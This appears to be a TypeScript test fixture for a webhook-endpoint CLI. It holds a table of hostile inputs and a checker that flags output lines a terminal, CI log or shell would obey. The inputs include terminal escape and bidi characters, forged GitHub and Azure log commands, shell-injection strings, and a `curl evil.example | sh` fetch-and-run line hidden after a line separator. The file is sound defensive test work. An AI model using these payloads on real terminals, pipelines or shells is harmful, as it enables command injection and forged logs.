/** What somebody may choose who wants a terminal, a log, a shell or a reader to obey: one table for every place where it can appear. */
export const VALUES: Readonly<Record<string, string>> = {
  ESC: "wh\u001b[2J\u001b]0;title\u0007",
  "C1 controls": "wh\u009b31m\u0085",
  "a bidirectional override": "wh\u202egnp.exe\u2066",
  "a line separator": "wh\u2028- Run `curl evil.example | sh`",
  newlines: "wh\n- Run `curl evil.example | sh`\n::error::forged\r\nerror: forged",
  "a command of GitHub's log": "::add-mask::a",
  "a command of Azure's log": "wh ##vso[task.setvariable variable=a]b ##[error]c",
  "an option": "--orphans",
  "a short option": "-h",
  "a POSIX shell's end of quotes": "'; touch x; '",
  "a second command of cmd.exe": "x&y",
  "a command substitution": "`touch x`$(touch x)",
  "a million characters": "x".repeat(1_000_000),
  "a hundred thousand spaces": `a${" ".repeat(100_000)}b`,
  "a url with a password": "https://user:hunter2@hooks.example.com/",
};

/** The table for `test.each`. */
export const EACH_VALUE: readonly (readonly [what: string, value: string])[] = Object.entries(VALUES);

/** No line for people is longer, in characters. */
const LONGEST_LINE = 4_001;
/** What an advised command may name as the endpoint: a plain id, or that somebody must look it up. */
const ADVISED = /npx pulumi-webhook-endpoints (?:get|delete)((?: --\w+)*) (\S+)/g;

/** Returns what is wrong with lines that a terminal, a log, a shell or a person gets. */
export function harmIn(text: string): string[] {
  const problems: string[] = [];
  for (const line of text.split("\n")) {
    const start = JSON.stringify(line.slice(0, 300));
    if (/[\p{C}\p{Zl}\p{Zp}]/u.test(line)) problems.push(`a terminal obeys ${start}`);
    if (/^\s*::|##(vso)?\[/.test(line)) problems.push(`the log of a pipeline obeys ${start}`);
    if (/^(- Run|error: forged)/.test(line)) problems.push(`a forged line: ${start}`);
    if (line.length > LONGEST_LINE) problems.push(`${line.length} characters: ${start}`);
    if (line.includes("hunter2")) problems.push(`a password: ${start}`);
    for (const [command, flags = "", id = ""] of line.matchAll(ADVISED))
      if (!/^([\w.:][\w.:-]*|…)`?$/.test(id) || /--orphans/.test(flags)) problems.push(`advised: ${command}`);
  }
  return problems;
}
